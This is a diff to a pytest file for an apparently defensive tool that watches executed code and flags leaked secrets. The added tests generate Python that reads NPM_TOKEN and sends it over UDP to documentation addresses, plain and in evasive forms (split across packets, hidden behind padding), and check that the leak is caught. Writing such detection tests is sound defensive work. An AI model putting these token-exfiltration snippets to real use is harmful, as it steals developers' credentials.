@@ -77,6 +77,22 @@ def test_files_commands_names_and_connections_are_seen_with_their_times():
     assert 0 < record.commands[0].at < record.http[0].at < record.duration
 
 
+def test_a_program_that_is_not_there_is_seen_as_well():
+    record = one(
+        python(
+            "import subprocess\n"
+            "for argv in (['ffmpeg', '-version'], ['true', 'it']):\n"
+            "    try: subprocess.run(argv)\n"
+            "    except FileNotFoundError: pass\n"
+        )
+    )
+
+    assert [(command.argv, command.path) for command in record.commands] == [
+        (("ffmpeg", "-version"), ""),
+        (("true", "it"), "/usr/bin/true"),
+    ]
+
+
 def test_python_speaks_to_the_sink_too():
     record = one(python("import urllib.request as u; print(u.urlopen('https://pypi.example.org/x').read())"))
 
@@ -176,6 +192,32 @@ def test_a_part_alone_is_no_decoy_that_left():
     )
 
     assert (record.complete, record.leaks) == (True, ())
+
+
+@pytest.mark.parametrize(
+    "send",
+    [
+        "s.sendto(t, (to, 9999))",
+        "s.connect((to, 9999)); os.write(s.fileno(), t)",
+        "s.sendto(t[:12], (to, 123)); s.sendto(t[12:], (to, 124))",
+        "s.bind(('', 54)); s.sendmsg([b'x' * 9000, t], [], 0, (to, 9999))",
+    ],
+    ids=["sent", "written", "in parts", "behind much else"],
+)
+@pytest.mark.parametrize("to", ["203.0.113.9", "2001:db8::9"])
+def test_a_decoy_that_leaves_in_datagrams_is_known_again(send, to):
+    family = "AF_INET6" if ":" in to else "AF_INET"
+    record = one(
+        python(
+            "import os, socket\n"
+            f"t, to = os.environ['NPM_TOKEN'].encode(), {to!r}\n"
+            f"s = socket.socket(socket.{family}, socket.SOCK_DGRAM)\n" + send
+        )
+    )
+
+    assert record.complete
+    assert {(leak.name, leak.channel, leak.target) for leak in record.leaks} == {("$NPM_TOKEN", "udp", to)}
+    assert {socket.address for socket in record.sockets} == {to}
 
 
 def test_gzip_hides_no_decoy():
